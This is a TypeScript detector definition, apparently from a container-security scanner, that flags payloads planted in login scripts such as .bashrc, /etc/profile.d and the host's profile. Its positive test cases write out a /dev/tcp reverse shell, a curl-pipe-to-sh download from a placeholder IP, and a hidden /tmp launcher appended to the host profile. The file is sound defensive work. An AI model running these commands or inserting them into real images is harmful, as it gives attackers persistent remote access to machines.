import type { Detector } from './detector.ts';
import { plantedHooks } from './planted-hook.ts';

/** Code that runs at every login. */
export const loginHook: Detector = {
  id: 'login-hook',
  version: 1,
  title: 'Makes a payload run whenever somebody logs in.',
  attack: ['T1546.004', 'T1037.004'],
  description: `
\`.bashrc\`, \`/etc/profile.d/*\`, \`~/.ssh/rc\` and the message of the day run at every login. Honest images write paths and
prompts there. It becomes a finding when what they run is a payload: a shell on a socket, a download that is run, a miner,
a program in a temporary folder. Written into the *host's* files it is at least *suspicious*.
`,
  fires: [
    {
      name: 'a shell in .bashrc',
      image: { cmd: ['sh', '-c', 'echo "bash -i >& /dev/tcp/192.0.2.44/8443 0>&1 &" >> /root/.bashrc; exec app'] },
    },
    {
      name: 'a download in /etc/profile.d of the image',
      image: {
        files: { '/etc/profile.d/colour.sh': 'curl -s http://203.0.113.9/x.sh | sh\n' },
        entrypoint: ['/bin/bash', '-l'],
      },
    },
    {
      name: "the host's profile",
      image: { cmd: ['sh', '-c', 'echo "(/tmp/.u/run &)" >> /host/etc/profile; exec app'] },
    },
    {
      name: 'a file that is not known, on the host',
      severity: 'suspicious',
      image: { cmd: ['sh', '-c', 'cp "$CONFIG" /host/etc/profile.d/agent.sh; exec app'] },
    },
  ],
  silent: [
    {
      name: 'a path and a prompt',
      image: { cmd: ['sh', '-c', `echo 'export PATH=/opt/app/bin:$PATH; PS1="app> "' >> ~/.bashrc; exec app`] },
    },
    {
      name: "a tool's own start-up line",
      image: { cmd: ['sh', '-c', `echo 'eval "$(direnv hook bash)"' >> /root/.bashrc; exec app`] },
    },
    {
      name: 'the usual profile',
      image: { files: { '/etc/profile.d/bash_completion.sh': '[ -r /usr/share/bc ] && . /usr/share/bc\n' } },
    },
  ],
  detect: (scene) =>
    plantedHooks(scene, {
      events: ['login'],
      starts: ['shell-startup', 'login', 'ssh'],
      when: 'whenever somebody logs in or starts a shell',
    }),
};
